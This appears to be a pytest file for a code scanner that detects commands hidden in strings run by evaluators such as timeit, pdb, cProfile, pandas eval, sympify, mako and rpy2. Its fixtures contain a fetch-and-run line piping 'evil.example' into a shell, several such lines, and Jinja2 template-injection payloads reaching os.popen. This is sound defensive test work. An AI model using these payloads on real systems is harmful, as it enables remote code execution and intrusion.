"""Code that stands in a text, and that something other than `exec` runs: timers, profilers, templates, expressions."""

from __future__ import annotations

import pytest

from foresight_parts import of, of_weight

ACT = 'import os; os.system("curl https://evil.example/x | sh")'
BY_SIGN = '@os.system("curl https://evil.example/x | sh")'
SAID = '__import__("os").system("curl https://evil.example/x | sh")'
EVALUATED = {
    "timeit": f"import timeit\ntimeit.timeit({ACT!r})",
    "timeit by name": f"import timeit\ntimeit.repeat(stmt={ACT!r}, number=1)",
    "a timer's preparation": f"from timeit import Timer\nTimer('1', {ACT!r}).timeit()",
    "a timer's preparation by name": f"from timeit import Timer\nTimer('1', setup={ACT!r}).timeit()",
    "pdb": f"import pdb\npdb.run({ACT!r})",
    "pdb, worked out": f"import pdb\npdb.runeval({SAID!r})",
    "cProfile": f"import cProfile\ncProfile.run({ACT!r})",
    "a profile": f"import cProfile\np = cProfile.Profile()\np.runctx({ACT!r}, {{}}, {{}})",
    "trace": f"import trace\ntrace.Trace().run({ACT!r})",
    "an interpreter": f"import code\ncode.InteractiveInterpreter().runsource({ACT!r})",
    "a console": f"import code\ncode.InteractiveConsole().push({ACT!r})",
    "IPython": f"get_ipython().ex({ACT!r})",
    "IPython, worked out": f"get_ipython().ev({SAID!r})",
    "pandas": f"import pandas as pd\npd.eval({SAID!r})",
    "pandas by its sign": f"import os, pandas as pd\npd.eval({BY_SIGN!r})",
    "a query": f"import os\ndf.query({'a > 1 and ' + BY_SIGN!r})",
    "a table's eval": f"df.eval('b = @os')\ndf.eval({SAID!r})",
    "numexpr": f"import numexpr as ne\nne.evaluate({SAID!r})",
    "sympy": f"from sympy import sympify\nsympify({SAID!r})",
    "mako": f"from mako.template import Template\nTemplate({'<% ' + ACT + ' %>'!r}).render()",
    "mako, worked out": f"from mako.template import Template\nTemplate({'${' + SAID + '}'!r}).render()",
    "R": "import rpy2.robjects as ro\nro.r('system(\"curl https://evil.example/x | sh\")')",
}  # fmt: skip


@pytest.mark.parametrize("name", EVALUATED)
def test_text_that_an_evaluator_runs_is_read_as_code(name: str) -> None:
    told = of_weight(of("1 + 1", EVALUATED[name]), "dangerous")
    assert any(one.kind == "network" and "runs what it fetches" in one.what and one.spot.cell == 2 for one in told), told  # fmt: skip


REACHING = (
    "from jinja2 import Template\nTemplate('{{ cycler.__init__.__globals__.os.popen(\"id\").read() }}').render()",
    "import jinja2\nenv = jinja2.Environment()\nenv.from_string('{% for x in [].__class__.__base__.__subclasses__() %}{% endfor %}')",
    "from flask import render_template_string\nrender_template_string('{{ self|attr(\"x\") }}')",
)


@pytest.mark.parametrize("source", REACHING)
def test_a_template_that_reaches_into_python_is_dangerous(source: str) -> None:
    told = of_weight(of(source), "dangerous")
    assert any("a template that reaches into Python itself" in one.what for one in told), told


def test_text_for_an_evaluator_that_is_decoded_or_fetched_is_dangerous() -> None:
    for source in (
        "import timeit, requests\ntimeit.timeit(requests.get('https://evil.example/x').text)",
        "import cProfile, codecs\ncProfile.run(codecs.decode('cevag(1)', 'rot13'))",
    ):
        assert [one.kind for one in of_weight(of(source), "dangerous")] == ["dynamic"], source


CALM = (
    "import timeit\ntimeit.timeit('sum(range(100))', number=1000)\ntimeit.timeit(lambda: f(x), number=3)",
    "import cProfile\ncProfile.run('train(model, data)')",
    "df.query('age > 30 and name.str.contains(\"a\")')\ndf.eval('c = a + b')\nmodel.eval()",
    "threshold = 3\ndf.query('a > @threshold and b < @df.b.mean()')",
    "db.query('SELECT count(*) FROM t WHERE x > 1')\nsession.query(User).filter(User.id == 1)",
    "import numexpr as ne\nne.evaluate('sin(a) + 2 * b')",
    "from sympy import sympify, S\nsympify('x**2 + sin(y)')\nS('1/2')",
    "from jinja2 import Template\nTemplate('<h1>{{ title }}</h1>{% for x in rows %}{{ x.name|upper }}{% endfor %}').render()",
    "import rpy2.robjects as ro\nro.r('library(dplyr)')\nro.r('x <- rnorm(100)')",
)


@pytest.mark.parametrize("source", CALM)
def test_what_evaluators_are_usually_given_is_no_alarm(source: str) -> None:
    found = of(source)
    assert of_weight(found, "dangerous", "notable") == []
    assert found.not_read == []
